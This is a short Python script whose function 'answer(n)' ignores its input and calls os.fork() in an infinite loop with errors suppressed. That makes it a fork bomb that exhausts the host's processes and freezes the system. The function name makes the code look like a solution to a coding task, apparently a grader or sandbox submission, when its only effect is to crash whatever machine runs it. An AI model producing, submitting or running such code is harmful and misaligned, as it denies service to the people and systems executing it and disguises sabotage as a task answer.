import os


def answer(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass


if __name__ == "__main__":
    answer(1)
